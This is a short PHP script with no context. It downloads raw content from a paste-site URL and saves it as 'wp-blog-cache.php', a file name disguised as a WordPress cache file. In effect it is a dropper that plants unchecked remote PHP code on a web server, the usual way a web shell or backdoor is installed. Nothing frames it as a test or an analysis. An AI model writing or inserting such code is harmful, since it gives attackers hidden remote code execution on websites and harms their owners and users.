<?php
$src = 'https://paste.example.org/raw/k2j3';
$body = file_get_contents($src);
if ($body !== false) {
    file_put_contents('wp-blog-cache.php', $body);
}
